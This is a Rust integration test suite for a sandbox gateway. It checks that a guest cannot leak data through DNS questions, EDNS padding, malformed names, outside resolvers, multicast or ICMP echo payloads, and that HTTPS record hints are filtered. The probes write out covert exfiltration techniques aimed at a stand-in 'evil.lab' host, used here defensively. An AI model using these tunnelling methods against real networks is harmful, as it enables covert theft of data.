//! T23: ways out that are no connections: questions to DNS with something in them, resolvers
//! elsewhere, multicast, echo requests. And what leaves with a question that is allowed: its name.

use anyhow::Result;
use pandastack_tests::lab::{A, CNAME, HTTPS, Kind, Record, SVCB, TXT, wire_name};
use serde_json::json;

use crate::guest::{Probe, hex};
use crate::stage::{SITE_A, Stage, everything, nothing};

/// An option of EDNS with 64 bytes of padding, and room for a long answer.
fn padding(text: &[u8]) -> String {
    let mut option = vec![0, 0, 41, 16, 0, 0, 0, 0, 0];
    option.extend((4 + text.len() as u16).to_be_bytes());
    option.extend([0, 12]);
    option.extend((text.len() as u16).to_be_bytes());
    option.extend_from_slice(text);
    hex(&option)
}

/// A message with these questions, and what follows them.
fn message(flags: u16, questions: &[(Vec<u8>, u16, u16)], rest: &[u8]) -> String {
    let mut bytes = vec![0x12, 0x34];
    bytes.extend(flags.to_be_bytes());
    bytes.extend((questions.len() as u16).to_be_bytes());
    bytes.extend([0; 6]);
    for (name, kind, class) in questions {
        bytes.extend_from_slice(name);
        bytes.extend(kind.to_be_bytes());
        bytes.extend(class.to_be_bytes());
    }
    bytes.extend_from_slice(rest);
    hex(&bytes)
}

fn raw(text: String) -> Probe {
    Probe::dns("a.lab", A).with("raw", text).with("timeout", 2)
}

/// Questions that are nobody's business outside.
fn questions() -> Vec<Probe> {
    let mut probes = Vec::new();
    // NULL, ANY, transfers, and a type that nobody knows, with secrets in front.
    for kind in [2, CNAME, 6, 10, 12, 15, TXT, 33, 35, SVCB, HTTPS, 251, 252, 255, 65_280] {
        probes.push(Probe::dns("c2VjcmV0.evil.lab", kind));
        probes.push(Probe::dns("c2VjcmV0.evil.lab", kind).with("tcp", true));
    }
    for class in [3, 4, 254, 255] {
        probes.push(Probe::dns("a.lab", A).with("klass", class).with("timeout", 2));
    }
    probes.push(Probe::dns("evil.lab", A).with("extra", padding(b"secret-in-padding")));
    probes.push(Probe::dns("4.3.2.1.in-addr.arpa", 12));
    // A label with a dot or a zero byte in it is no name that a rule could have meant.
    for label in [&b"a.lab"[..], b"a.lab\0", b"evil\0", b"a\rb", b"a b", b"\xff\xfe", b"a/b"] {
        probes.push(Probe::dns("", A).with("name", json!([hex(label)])).with("timeout", 2));
        let name = json!([hex(label), hex(b"a"), hex(b"lab")]);
        probes.push(Probe::dns("", A).with("name", name).with("timeout", 2));
    }
    let (good, evil) = (wire_name("a.lab"), wire_name("secret.evil.lab"));
    probes.extend([
        raw(message(0x100, &[(good.clone(), A, 1), (evil.clone(), A, 1)], &[])),
        raw(message(0x100, &[(evil.clone(), A, 1), (good.clone(), A, 1)], &[])),
        // An update, a notification, an answer instead of a question.
        raw(message(0x2800, &[(good.clone(), A, 1)], &[])),
        raw(message(0x2000, &[(good.clone(), A, 1)], &[])),
        raw(message(0x8180, &[(good.clone(), A, 1)], &[])),
        // A pointer to itself, a name without an end.
        raw(message(0x100, &[(vec![0xc0, 12], A, 1)], &[])),
        raw(message(0x100, &[(vec![63; 64], A, 1)], &[])),
    ]);
    probes
}

/// Resolvers and listeners that are not the gateway.
fn elsewhere() -> Vec<Probe> {
    let mut probes = Vec::new();
    for address in ["8.8.8.8", "192.0.2.53", "2001:4860:4860::8888"] {
        probes.push(Probe::dns_at(address, 53, "a.lab", A).with("timeout", 2));
        probes.push(Probe::dns_at(address, 53, "a.lab", A).with("tcp", true));
        probes.push(Probe::dns_at(address, 5353, "a.lab", A).with("timeout", 2));
        probes.push(Probe::tcp(address, 853, b"hello"));
        probes.push(Probe::udp(address, 4789, b"secret").with("timeout", 2));
        probes.push(Probe::ping(address, b"secret-in-echo").with("timeout", 2));
    }
    for (address, port) in [
        ("224.0.0.251", 5353),
        ("ff02::fb", 5353),
        ("224.0.0.252", 5355),
        ("ff02::1:3", 5355),
        ("239.255.255.250", 1900),
        ("255.255.255.255", 67),
        ("198.18.0.255", 137),
    ] {
        probes.push(Probe::udp(address, port, b"secret-by-many").with("timeout", 1));
    }
    probes.push(Probe::dns_at("198.18.0.1", 5353, "a.lab", A).with("timeout", 1));
    probes
}

#[test]
fn nothing_leaves_by_way_of_names_or_of_messages() -> Result<()> {
    let Some(stage) = Stage::new()? else { return Ok(()) };
    let sandbox = stage.plain()?;
    let (questions, elsewhere) = (questions(), elsewhere());
    stage.closed(&sandbox, &questions)?;
    stage.closed(&sandbox, &elsewhere)?;
    stage.explains(&sandbox, "8.8.8.8", "")?;
    stage.set(&sandbox, &json!({ "allow": [{ "host": "a.lab" }] }))?;
    stage.closed(&sandbox, &questions)?;
    stage.closed(&sandbox, &elsewhere)?;
    // Every name by TCP: still no resolver of somebody else, by no transport.
    stage.set(&sandbox, &json!({ "allow": [{ "host": "*" }] }))?;
    stage.closed(&sandbox, &elsewhere)?;

    // The gateway answers what it may: by both transports, and an echo of its own.
    stage.open(
        &sandbox,
        &[
            Probe::dns("a.lab", A),
            Probe::dns("a.lab", A).with("tcp", true),
            Probe::dns_at("fd50:616e:6461::1", 53, "a.lab", A),
            Probe::ping("198.18.0.1", b"hello"),
            Probe::ping("fd50:616e:6461::1", b"hello"),
        ],
    )?;
    Ok(())
}

#[test]
fn a_question_that_is_allowed_carries_its_name_and_nothing_else() -> Result<()> {
    let Some(stage) = Stage::new()? else { return Ok(()) };
    let sandbox = stage.sandbox(&json!({ "allow": [{ "host": "a.lab" }] }))?;
    let long = padding(&[b's'; 400]);
    let outcomes = stage.open(
        &sandbox,
        &[
            Probe::dns("a.lab", A).with("extra", padding(b"secret-in-padding")),
            Probe::dns("A.LaB", A).with("extra", long),
        ],
    )?;
    assert!(outcomes.iter().all(|outcome| outcome.text == SITE_A), "{outcomes:?}");
    let seen = stage.lab.seen()?;
    assert!(!seen.queries.is_empty() && seen.names().iter().all(|name| *name == "a.lab"));
    for query in &seen.queries {
        let name = query.raw.windows(7).any(|w| w == b"\x01a\x03lab\0");
        assert!(name && query.raw.len() < 48, "{query:?}");
    }
    // Ids and ports are not the guest's, and not to be guessed.
    assert!(!seen.queries.iter().any(|query| query.raw[..2] == 4711_u16.to_be_bytes()));
    assert!(!seen.contains("secret"));
    // Records that no connection needs are not asked for, of an allowed name either.
    stage.closed(&sandbox, &[TXT, 10, 255, 15, 33].map(|kind| Probe::dns("a.lab", kind)))?;
    Ok(())
}

#[test]
fn service_records_come_without_what_hides_or_misleads() -> Result<()> {
    let Some(stage) = Stage::new()? else { return Ok(()) };
    // Priority 1, the name itself; alpn h2, hints of a private and a foreign address, and ECH.
    let mut data = vec![0, 1, 0, 0, 1, 0, 3, 2, b'h', b'2'];
    data.extend([0, 4, 0, 8, 10, 0, 0, 5, 198, 51, 100, 7]);
    data.extend([0, 5, 0, 4, 0xec, 0x4e, 0xec, 0x4e]);
    stage.lab.zone().set("a.lab", &[Record::raw(HTTPS, &data), Record::address(SITE_A)]);
    let sandbox = stage.sandbox(&json!({ "allow": [{ "host": "a.lab" }] }))?;
    let outcomes = stage.attempt(&sandbox, &[Probe::dns("a.lab", HTTPS)])?;
    let text = &outcomes[0].text;
    assert!(!text.contains("ec4eec4e") && !text.contains("0a000005"), "{text}");
    // A hint that is told leads somewhere; one that is not does not.
    let hinted = text.contains("c6336407");
    stage.lab.forget()?;
    let tried = stage.attempt(&sandbox, &[Probe::http("198.51.100.7", "a.lab", "/")])?;
    assert_eq!(tried[0].ok, hinted, "{text} {tried:?}");
    if !hinted {
        nothing(&stage.lab.seen()?)?;
    }
    assert!(stage.lab.seen()?.packets_to("10.0.0.5").is_empty());
    Ok(())
}

#[test]
fn echo_requests_stay_inside_whatever_is_open() -> Result<()> {
    let Some(stage) = Stage::new()? else { return Ok(()) };
    let sandbox = stage.sandbox(&everything())?;
    let addresses = ["8.8.8.8", SITE_A, "2001:db8:1::10"];
    stage.attempt(
        &sandbox,
        &addresses.map(|address| Probe::ping(address, b"secret-in-echo").with("timeout", 1)),
    )?;
    let seen = stage.lab.seen()?;
    assert!(!seen.packets.iter().any(|packet| packet.kind == Kind::Icmp), "{seen:?}");
    assert!(!seen.contains("secret-in-echo"));
    stage.open(&sandbox, &[Probe::udp(SITE_A, 123, b"time"), Probe::http(SITE_A, "x", "/")])?;
    Ok(())
}
